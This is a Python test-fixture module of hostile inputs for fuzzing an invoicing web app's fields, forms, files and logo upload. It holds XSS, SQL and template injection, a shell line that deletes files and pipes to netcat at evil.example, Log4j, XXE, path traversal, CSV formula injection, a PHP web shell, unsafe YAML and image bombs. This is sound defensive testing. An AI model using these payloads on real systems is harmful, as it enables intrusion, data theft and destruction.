"""What people with bad intentions, or bad luck, put into fields, forms, files and addresses.

``TEXTS`` go through every text field, ``NUMBERS`` through every number and date, ``ADDRESSES`` through every e-mail
field, ``BODIES`` through every form as raw bytes, ``FILES`` to the command line, ``PICTURES`` to the logo upload.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

# Where markup would act, it would leave this word alone on a page; inert, it stands inside what was typed.
CANARY = "KANARIENVOGEL"
# A file that exists wherever the tests run; its first words must never appear anywhere.
SECRET_FILE = "/etc/passwd"
SECRET_WORDS = "root:x:0"

HTML = {
    "script": f"<script>{CANARY}()</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "img-onerror": f'<img src=x onerror="{CANARY}()">',
    "svg-onload": f"<svg/onload={CANARY}()>",
    "attribute-break": f'" autofocus onfocus="{CANARY}()" x="',
    "attribute-break-single": f"' onmouseover='{CANARY}()",
    "attribute-unquoted": f"x onclick={CANARY}()",
    "title-break": f"</title><script>{CANARY}()</script>",
    "textarea-break": f"</textarea><script>{CANARY}()</script>",
    "script-break": f"</script><script>{CANARY}()</script>",
    "comment-break": f"--><script>{CANARY}()</script><!--",
    "cdata": f"<![CDATA[<script>{CANARY}()</script>]]>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "double-encoded": "%253Cscript%253Ealert(1)%253C/script%253E",
    "javascript-url": "javascript:alert(1)",
    "javascript-url-tab": "java\tscript:alert(1)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=pin></form>',
    "style": "<style>*{display:none}</style>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "null-in-tag": f"<scr\x00ipt>{CANARY}()</scr\x00ipt>",
    "full-width": "＜script＞alert(1)＜/script＞",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template-literal": "${alert(1)} `alert(1)`",
    "mathml": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
}
TYPST = {
    "read-secret": f'#read("{SECRET_FILE}")',
    "read-relative": '#read("../../../../../../etc/passwd")',
    "read-template": '#read("letter.typ")',
    "import-package": '#import "@preview/tablex:0.0.8": *',
    "include": '#include "/letter.typ"',
    "image": '#image("/etc/hostname")',
    "eval": '#eval("1+1", mode: "code")',
    "set-page": "#set page(width: 1pt, height: 1pt)",
    "endless": "#let f(x) = f(x + 1); #f(0)",
    "loop": "#while true {}",
    "panic": '#panic("stop")',
    "raw": '```typ #read("/etc/passwd") ```',
    "math": "$ sum_(k=0)^oo 1/k! $",
    "markup": "*fett* _kursiv_ `roh` = Titel - Liste + Zahl / Term: Wort",
    "label": "<marke> @marke #ref(<marke>)",
    "escape": "\\u{1F600} \\# \\* \\\\",
    "link": '#link("https://evil.example")[klick]',
    "sys-inputs": "#sys.inputs",
    "comment": "// Kommentar /* noch einer */ nach",
    "brackets": "[[]] {{}} (()) ]] }} ))",
    "specials": "*_$@<>\\#`~-=+/[]{}()'\"",
}
TEMPLATES = {
    "django-variable": "{{ settings.SECRET_KEY }}",
    "django-tag": "{% load static %}{% include '/etc/passwd' %}",
    "django-comment": "{# weg #} {% comment %} weg {% endcomment %}",
    "format": "{x.__class__.__init__.__globals__}",
    "format-index": "{0} {} {0.__class__}",
    "percent": "%(x)s %s %d %n %x %%",
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "expression": "${7*7} #{7*7} *{7*7} @{7*7} <%= 7*7 %>",
    "shell": "$(cat /etc/passwd) `id` ; rm -rf / | nc evil.example 1 &",
    "log4j": "${jndi:ldap://evil.example/x}",
    "ssi": '<!--#exec cmd="id"-->',
    "xxe": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xinclude": '<xi:include href="file:///etc/passwd" parse="text"/>',
    "placeholder": "{number} {amount} {seller} {page_url}",
}
SQL = {
    "quote": "' OR '1'='1",
    "drop": "'; DROP TABLE invoices_invoice; --",
    "union": "' UNION SELECT key_hash FROM businesses_accesskey --",
    "like": "%_%' ESCAPE '\\'",
    "comment": "admin'/**/--",
    "double-quote": '" OR ""="',
    "copy": "'; COPY x TO PROGRAM 'id'; --",
    "apostrophe": 'O\'Neill & Söhne "GmbH"',
}
HEADERS = {
    "crlf-bcc": "Atelier\r\nBcc: opfer@evil.example",
    "lf-bcc": "Atelier\nBcc: opfer@evil.example",
    "cr-bcc": "Atelier\rBcc: opfer@evil.example",
    "crlf-body": "Atelier\r\n\r\nKein Kopf mehr\r\n.\r\nMAIL FROM:<x@evil.example>",
    "encoded-word": "=?utf-8?q?Bcc:=20opfer@evil.example=0D=0A?=",
    "folded": "Atelier\r\n Bcc: opfer@evil.example",
    "line-separator": "Atelier\u2028Bcc: opfer@evil.example\u2029Cc: x@evil.example",
    "next-line": "Atelier\x85Bcc: opfer@evil.example",
    "vertical-tab": "Atelier\x0bBcc: opfer@evil.example\x0cCc: x@evil.example",
    "percent-crlf": "Atelier%0d%0aBcc:%20opfer@evil.example",
    "name-address": 'Bank <bank@bank.example>, "x" <y@z.example>',
    "dot-alone": "erste Zeile\r\n.\r\nzweite Zeile",
    "from-line": "From root@evil.example Mon Nov 23",
}
UNICODE = {
    "nul": "vor\x00nach",
    "controls": "".join(chr(n) for n in range(1, 32)) + "Ende",
    "c1-controls": "".join(chr(n) for n in range(0x80, 0xA0)) + "Ende",
    "delete": "a\x7fb\x08c",
    "ansi": "\x1b[31mrot\x1b[0m\x1b]0;Titel\x07",
    "zero-width": "Sieben\u200bschl\u200c\u200däfer\ufeff GmbH",
    "bidi-override": "Betrag \u202e00,1\u202c Euro",
    "bidi-isolate": "\u2066\u2067abc\u2069 \u200e\u200f",
    "bidi-unclosed": "\u202e\u202b\u2067 offen",
    "hebrew": "סטודיו צפון בע״מ",
    "arabic": "استوديو الشمال للتصميم",
    "arabic-mixed": "Firma شركة ٢٠٢٦ GmbH",
    "chinese": "北极光工作室有限公司",
    "japanese": "株式会社オーロラ・デザイン",
    "korean": "오로라 디자인",
    "thai": "สตูดิโอแสงเหนือ",
    "devanagari": "उत्तरी प्रकाश स्टूडियो",
    "tamil": "வடக்கு ஒளி",
    "amharic": "ሰሜናዊ ብርሃን",
    "emoji": "🎨 Atelier 🚀",
    "emoji-family": "👨‍👩‍👧‍👦 Familie",
    "emoji-skin": "👍🏿👩🏽‍💻",
    "emoji-flag": "🇩🇪🏴󠁧󠁢󠁳󠁣󠁴󠁿🏳️‍🌈",
    "keycap": "1️⃣2️⃣#️⃣",
    "zalgo": "Z" + "\u0301\u0302\u0303\u0320\u0330" * 40 + "algo",
    "decomposed": "Mo\u0308wenhafen Cafe\u0301",
    "homoglyph": "Аtelier Νordlicht",
    "private-use": "\ue000\uf8ff\U000f0000",
    "noncharacter": "a\ufffe\uffff\U0001ffffb",
    "replacement": "a\ufffdb",
    "tags": "Atelier\U000e0041\U000e0042\U000e007f",
    "variation": "A\ufe0fB\ufe0e\U000e0100",
    "astral": "𝔄𝔱𝔢𝔩𝔦𝔢𝔯 𐍈 𒀀 𓀀",
    "combining-first": "\u0301\u0308 beginnt",
    "ligature": "ﬁﬂ ﷽ ꧅",
    "soft-hyphen": "Donau\u00addampf\u00adschiff",
    "blanks": "\u00a0\u2003\u3000 \u202f\u2009 x \u1680",
    "only-blanks": " \t\u00a0\u3000 ",
    "only-invisible": "\u200b\u200e\ufeff",
    "turkish": "İstanbul ıĞğŞş",
    "sharp-s": "STRASSE straße STRAẞE",
    "surrogate-like": "\\ud800 \\udfff",
    "mojibake": "MÃ¶wenhafen â‚¬",
}
PATHS = {
    "passwd": "../../../../etc/passwd",
    "encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "windows": "..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "file-url": "file:///etc/passwd",
    "internal-url": "http://169.254.169.254/latest/meta-data/",
    "unc": "\\\\evil.example\\share",
    "null-path": "rechnung.pdf\x00.exe",
    "device": "CON PRN AUX NUL COM1",
    "dots": "....//....//etc/passwd",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example","klick")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-equals": "\t=1+1",
    "cr-equals": "\r=1+1",
    "dde": '=DDE("cmd";"/C calc";"x")',
}
LONG = {
    "word": "Donaudampfschifffahrt" * 45,
    "word-of-emoji": "🎨" * 900,
    "dots": "." * 950,
    "too-long": "lang " * 2_500,
    "too-long-word": "x" * 30_000,
    "many-lines": "Zeile\n" * 2_000,
    "only-breaks": "\r\n" * 5_000,
    "nested-brackets": "[" * 900,
    "combining": "e" + "\u0301" * 900,
    "rtl-long": "שלום " * 180,
    "quotes": "\"'" * 450,
    "backslashes": "\\" * 900,
    "hundred-thousand": "0123456789" * 10_000,
}
SHAPES = {
    "none": "None",
    "null": "null",
    "undefined": "undefined",
    "true": "true",
    "nan": "NaN",
    "json": '{"__proto__": {"x": 1}, "constructor": {"prototype": 1}}',
    "array": '["a"]',
    "pickle": "gASVBQAAAAAAAACMAXiULg==",
    "python": "__import__('os').system('id')",
    "date": "9999-99-99",
    "xml": "<?xml version='1.0'?><a/>",
    "markdown": "[klick](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "url": "https://evil.example/?a=1&b=2#c",
    "phone": "0190 123456",
    "mailto": "mailto:x@y.example?bcc=z@evil.example",
    "qr": "BCD\n002\n1\nSCT\n\nBöse\nDE00",
}

_GROUPS = (HTML, TYPST, TEMPLATES, SQL, HEADERS, UNICODE, PATHS, FORMULAS, LONG, SHAPES)
_NAMES = ("html", "typst", "template", "sql", "header", "unicode", "path", "formula", "long", "shape")
TEXTS: dict[str, str] = {
    f"{name}-{key}": text for name, group in zip(_NAMES, _GROUPS, strict=True) for key, text in group.items()
}

NUMBERS = [
    "1e999", "1E5", "NaN", "Infinity", "-Infinity", "1_000", "٣٤٥", "１２３", "½", "²", "1.000", "1.000,00", "1,000.00",
    "1..2", "1,,2", "--5", "+5", "-0", "0", "00000000001", "0x1F", "1 000,50", "1\u202f000", "1'000",
    "9" * 20, "9" * 5_000,
    "-" + "9" * 30, "0," + "0" * 60 + "1", "99999999999999999,99", "€ 12", "12 €", "12,50 EUR", "zwölf", "1/3", "10%",
    "1;2", "1\n2", "\x00", "1\x002", "', 1", "{{ 7*7 }}", "=1+1", "1e-7", "0.1e1", "１，５", "1٫5", "१२", "∞", "π", "",
]  # fmt: skip
DATES = [
    "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "31.02.2026", "29.02.2027", "1.1.1", "99.99.9999", "heute",
    "gestern", "2026-W48-1", "20261123", "23.11.2026T10:00", "-1.-1.-1", "1e3", "٢٣.١١.٢٠٢٦", "23/11/2026", "23.11.",
    "9" * 5_000, "\x00", "1.1.0001", "2026-11-23\x00", "23.11.2026\r\nX: y", "{{ now }}", "Montag",
]  # fmt: skip
ADDRESSES = [
    "", " ", "@", "a@", "@b.example", "a@b", "a b@c.example", "a@b..example", ".a@b.example", "a.@b.example",
    "a@-b.example", "a@b-.example", "a@localhost", "a@[127.0.0.1]", "a@127.0.0.1", '"a b"@c.example', "a@b.example\x00",
    "a@b.example\r\nBcc: c@d.example", "a@b.example\nBcc: c@d.example", "a@b.example%0aBcc:c@d.example",
    "a@b.example,c@d.example", "a@b.example;c@d.example", "A <a@b.example>", "<a@b.example>", "a@b.example>",
    "a@b.example RCPT TO:<c@d.example>", "a@b.example> NOTIFY=NEVER", "a@b@c.example", "ä@müller.example",
    "a@xn--.example", "a@" + "b" * 64 + ".example", "a" * 65 + "@b.example", "a@" + "b." * 130 + "example",
    "x" * 100_000 + "@b.example", "a@b.example" * 1_000, "\u202ea@b.example", "a\u200b@b.example", "a@b。example",
    "a@ｂ.example", "!#$%&'*+/=?^_`{|}~-@b.example", "a@b.example<script>", "' OR 1=1@b.example", "a\\@b.example",
    "mailto:a@b.example", "a@b.example?bcc=c@d.example", "a@b.c", "a@b.123", "postmaster@b.example.", "\t",
    "a\t@b.example",
]  # fmt: skip

FORM = "application/x-www-form-urlencoded"
# body, its content type
BODIES: dict[str, tuple[bytes, str]] = {
    "invalid-utf8": (b"seller.name=%ff%fe%c0%80&lines.0.name=\xff\xfe", FORM),
    "lone-surrogate": (b"seller.name=%ed%a0%80&frage=%ed%bf%bf&recipient=%ed%a0%80", FORM),
    "overlong": (b"seller.name=%c0%bcscript%c0%be&frage=%c0%bc", FORM),
    "nul": (b"seller.name=a%00b&frage=a%00b&window=%00&edit=%00&base_revision=%00&do=%00&tag=%00&zeile=%00", FORM),
    "nul-names": (b"%00=1&seller.name%00=2&lines.0%00.name=3", FORM),
    "arrays": (b"seller.name[]=a&lines[0][name]=b&lines.0.name[]=c", FORM),
    "doubles": (b"seller.name=a&seller.name=b&" * 500, FORM),
    "semicolons": (b"seller.name=a;buyer.name=b", FORM),
    "no-values": (b"seller.name&buyer.name&&&==&=x", FORM),
    "conflict": (b"seller=x&seller.name=y&seller.name.z=w&lines=1&lines.0=2&lines.0.name=3", FORM),
    "indexes": (b"lines.-1.name=a&lines.99999.name=b&lines.0001.name=c&lines.1e3.name=d&lines.%d9%a3.name=e", FORM),
    "big-index": (b"lines.9999.name=a&lines.5000.name=b", FORM),
    "dunder": (b"__class__=1&seller.__class__=2&seller.__init__.__globals__=3", FORM),
    "own-fields": (b"number=RE-1&type_code=381&business=1&id=1&invoice=1&revision=9&presentation.logo=x", FORM),
    "huge-numbers": (b"edit=" + b"9" * 5_000 + b"&base_revision=" + b"9" * 5_000 + b"&window=" + b"w" * 5_000, FORM),
    "negative-numbers": (b"edit=-1&base_revision=-1&window=-1", FORM),
    "arabic-numbers": (b"edit=%d9%a3&base_revision=%d9%a3&do=remove:%d9%a3&zeile=%d9%a3", FORM),
    "do-remove-huge": (b"do=remove:" + b"9" * 5_000, FORM),
    "do-up-huge": (b"do=up:" + b"9" * 5_000, FORM),
    "do-remove-superscript": ("do=remove:²".encode(), FORM),
    "do-remove-beyond": (b"do=remove:77", FORM),
    "do-unknown": (b"do=format:disk", FORM),
    "do-fix-unknown": (b"do=fix:NO-SUCH@__class__.__init__", FORM),
    "do-undo-nothing": (b"do=undo", FORM),
    "due-days-huge": (b"due_days=" + b"9" * 5_000 + b"&issue_date=23.11.2026", FORM),
    "supply-unknown": (b"supply=never&due_days=-1", FORM),
    "far-date": (b"issue_date=31.12.9999&due_days=30", FORM),
    "language": (b"language=../../etc/passwd&currency=%00%00%00", FORM),
    "presentation": (b"presentation.style=/etc/passwd&presentation.accent=url(javascript:1)", FORM),
    "presentation-typst": (b'presentation.style=klar&presentation.accent=%23read("/etc/passwd")', FORM),
    "json-body": (b'{"seller": {"name": "a"}}', "application/json"),
    "json-deep": (b"[" * 100_000, "application/json"),
    "xml-body": (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "application/xml"),
    "text-body": (b"seller.name=a", "text/plain"),
    "no-type": (b"seller.name=a", ""),
    "strange-type": (b"seller.name=a", "application/x-www-form-urlencoded; charset=utf-16"),
    "unknown-charset": (b"seller.name=a", "application/x-www-form-urlencoded; charset=nonsense"),
    "multipart-no-boundary": (b"--x\r\n\r\na", "multipart/form-data"),
    "multipart-broken": (b'--x\r\nContent-Disposition: form-data; name="a"', "multipart/form-data; boundary=x"),
    "multipart-bad-boundary": (b"--x--", "multipart/form-data; boundary=\xc3\xa4"),
    "multipart-base64": (
        b'--x\r\nContent-Disposition: form-data; name="seller.name"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        b"!!!\r\n--x--\r\n",
        "multipart/form-data; boundary=x",
    ),
    "multipart-file-as-field": (
        b'--x\r\nContent-Disposition: form-data; name="seller.name"; filename="../../etc/passwd"\r\n\r\n'
        b"abc\r\n--x--\r\n",
        "multipart/form-data; boundary=x",
    ),
    "many-fields": (b"&".join(b"a%d=1" % n for n in range(30_000)), FORM),
    "ten-megabytes": (b"lines.0.description=" + b"a" * 10_000_000, FORM),
    "ten-megabytes-frage": (b"frage=" + b"a" * 10_000_000, FORM),
    "binary": (bytes(range(256)) * 10, FORM),
    "empty": (b"", FORM),
}  # fmt: skip


def _bill(**changes: Any) -> bytes:
    import json

    from tests import cast

    data = {key: value for key, value in cast.typed().items() if key != "presentation"}
    data |= {"issue_date": "2026-11-23", "due_date": "2026-12-07", "delivery_date": "2026-11-20"}
    data["payment"] = {"account_identifier": "DE02120300000000202051"}
    data["lines"] = [{"name": "Etikett", "quantity": "3", "unit_code": "H87", "price": "480"}]
    return json.dumps(data | changes, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _line(**changes: Any) -> bytes:
    return _bill(lines=[{"name": "Etikett", "quantity": "3", "unit_code": "H87", "price": "480"} | changes])


_GOOD = _bill()
FILES: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \n\t",
    "null": b"null",
    "number": b"42",
    "text": b'"Rechnung"',
    "array": b"[]",
    "empty-object": b"{}",
    "not-json": b"Rechnung ueber 100 Euro",
    "half": _GOOD[: len(_GOOD) // 2],
    "two-documents": _GOOD + _GOOD,
    "trailing-comma": _GOOD[:-1] + b",}",
    "comment": b"// bill\n" + _GOOD,
    "single-quotes": _GOOD.replace(b'"', b"'"),
    "latin-1": _GOOD.decode().encode("latin-1", "replace"),
    "utf-16": _GOOD.decode().encode("utf-16"),
    "utf-32": _GOOD.decode().encode("utf-32"),
    "bom": b"\xef\xbb\xbf" + _GOOD[:-3],
    "invalid-utf8": _GOOD.replace(b"Etikett", b"Eti\xff\xfekett"),
    "overlong": _GOOD.replace(b"Etikett", b"\xc0\xbc"),
    "nul-byte": _GOOD.replace(b"Etikett", b"Eti\x00kett"),
    "nul-escaped": _line(name="Eti\x00kett", price="-1"),
    "lone-surrogate": _GOOD.replace(b"Etikett", b"\\ud800").replace(b'"480"', b'"-1"'),
    "surrogate-bytes": _line(name="\ud800"),
    "duplicate-keys": _GOOD[:-1] + b', "currency": "USD"}',
    "duplicate-deep": _GOOD.replace(b'"price": "480"', b'"price": "480", "price": "1"'),
    "unknown-field": _bill(total="1"),
    "client-total": _line(amount="1.00"),
    "proto": _bill(__proto__={"x": 1}),
    "class": _bill(__class__="Bill"),
    "deep-array": b"[" * 200_000,
    "deep-object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "nan": _GOOD.replace(b'"480"', b"NaN"),
    "infinity": _GOOD.replace(b'"480"', b"-Infinity"),
    "1e999": _GOOD.replace(b'"480"', b"1e999"),
    "1e999999999": _GOOD.replace(b'"480"', b"1e999999999"),
    "tiny": _GOOD.replace(b'"480"', b"1e-999999999"),
    "float-digits": _GOOD.replace(b'"480"', b"0.30000000000000004"),
    "long-integer": _GOOD.replace(b'"480"', b"9" * 10_000),
    "long-number-text": _line(price="9" * 10_000),
    "negative-price": _line(price="-480"),
    "underscore": _line(price="1_000"),
    "arabic-digits": _line(price="٤٨٠"),
    "comma": _line(price="480,00"),
    "hex": _line(price="0x1E0"),
    "bool-price": _line(price=True),
    "null-price": _line(price=None),
    "object-price": _line(price={"amount": 1}),
    "huge-product": _line(price="9999999999", quantity="9999999999"),
    "bad-date": _bill(issue_date="2026-02-30"),
    "german-date": _bill(issue_date="23.11.2026"),
    "far-date": _bill(issue_date="9999-12-31"),
    "old-date": _bill(issue_date="0001-01-01"),
    "date-number": _bill(issue_date=20261123),
    "date-time": _bill(issue_date="2026-11-23T00:00:00Z"),
    "bad-currency": _bill(currency="ZZZ"),
    "bad-situation": _bill(tax_situation="../../etc/passwd"),
    "bad-unit": _line(unit_code="<script>"),
    "bad-iban": _bill(payment={"account_identifier": "DE00000000000000000000"}),
    "bad-language": _bill(language="../de"),
    "lines-object": _bill(lines={"0": {}}),
    "lines-text": _bill(lines="eine"),
    "lines-empty": _bill(lines=[]),
    "line-null": _bill(lines=[None]),
    "five-thousand-lines": _bill(lines=[{"name": f"Zeile {n}", "quantity": "1", "price": "1"} for n in range(5_000)]),
    "ten-megabytes": _line(name="a" * 10_000_000),
    "one-megabyte-line": _line(name="a" * 1_000_000),
    "number-given": _bill(number="RE-2026-0001\r\nBcc: x"),
    "seller-text": _bill(seller="Atelier"),
    "seller-array": _bill(seller=[]),
    "pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.",
    "zip": b"PK\x03\x04" + b"\x00" * 100,
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
    "xml": b"<?xml version='1.0'?><Invoice/>",
    "yaml": b"seller:\n  name: !!python/object/apply:os.system ['id']",
}


# -- pictures


def _picture(mode: str = "RGB", size: tuple[int, int] = (60, 30), form: str = "PNG", **options: Any) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, size).save(out, form, **options)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def _png_header(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that claims a size; the pixels are not there."""
    head = _chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _animated() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    first, second = Image.new("RGB", (9, 9), "red"), Image.new("RGB", (9, 9), "blue")
    first.save(out, "WEBP", save_all=True, append_images=[second], duration=100)
    return out.getvalue()


# name -> (maker, whether it is a picture we can take)
PICTURES: dict[str, tuple[Callable[[], bytes], bool]] = {
    "empty": (lambda: b"", False),
    "text": (lambda: b"kein Bild", False),
    "svg": (lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}()"/>'.encode(), False),
    "svg-as-png": (lambda: b'<?xml version="1.0"?><svg><image href="file:///etc/passwd"/></svg>', False),
    "gif": (lambda: _picture("P", form="GIF"), False),
    "bmp": (lambda: _picture(form="BMP"), False),
    "tiff": (lambda: _picture(form="TIFF"), False),
    "eps": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run", False),
    "pdf": (lambda: b"%PDF-1.7\n1 0 obj", False),
    "html": (lambda: f"<html><script>{CANARY}()</script></html>".encode(), False),
    "php": (lambda: b"<?php system($_GET['c']); ?>", False),
    "zip": (lambda: b"PK\x03\x04" + b"\0" * 60, False),
    "header-20000": (lambda: _png_header(20_000, 20_000), False),
    "header-2-billion": (lambda: _png_header(2**31 - 1, 2**31 - 1), False),
    "header-zero": (lambda: _png_header(0, 0), False),
    "bomb-13000": (lambda: _png_header(13_000, 13_000, zlib.compress(b"\0" * (13_000 * 3 + 1) * 600)), False),
    "bomb-4000x3999": (lambda: _png_header(4_000, 3_999, zlib.compress(b"\0" * 1_000)), False),
    "text-bomb": (
        lambda: _picture()[:33] + _chunk(b"zTXt", b"x\0\0" + zlib.compress(b"a" * 60_000_000)) + _picture()[33:],
        False,
    ),
    "icc-bomb": (
        lambda: _picture()[:33] + _chunk(b"iCCP", b"x\0\0" + zlib.compress(b"a" * 60_000_000)) + _picture()[33:],
        False,
    ),
    "truncated": (lambda: _picture(size=(300, 300), form="JPEG")[:700], False),
    "truncated-png": (lambda: _picture(size=(300, 300))[:-30], False),
    "bad-crc": (lambda: _picture()[:40] + b"\xff\xff" + _picture()[42:], False),
    "only-magic": (lambda: b"\x89PNG\r\n\x1a\n", False),
    "jpeg-magic": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50, False),
    "webp-magic": (lambda: b"RIFF\x10\x00\x00\x00WEBPVP8 ", False),
    "animated": (_animated, False),
    "too-large": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 2_200_000, False),
    "polyglot-html": (lambda: _picture() + f"<script>{CANARY}()</script>".encode(), True),
    "polyglot-zip": (lambda: _picture() + b"PK\x03\x04evil.exe", True),
    "comment-script": (lambda: _picture(form="JPEG", comment=f"<script>{CANARY}()</script>".encode()), True),
    "palette": (lambda: _picture("P"), True),
    "one-bit": (lambda: _picture("1"), True),
    "cmyk": (lambda: _picture("CMYK", form="JPEG"), True),
    "sixteen-bit": (lambda: _picture("I;16"), True),
    "alpha": (lambda: _picture("RGBA"), True),
    "one-pixel": (lambda: _picture(size=(1, 1)), True),
    "very-wide": (lambda: _picture(size=(15_000, 1)), True),
    "very-tall": (lambda: _picture(size=(1, 15_000)), True),
    "webp": (lambda: _picture(form="WEBP"), True),
}

ALL = len(TEXTS) + len(NUMBERS) + len(DATES) + len(ADDRESSES) + len(BODIES) + len(FILES) + len(PICTURES)
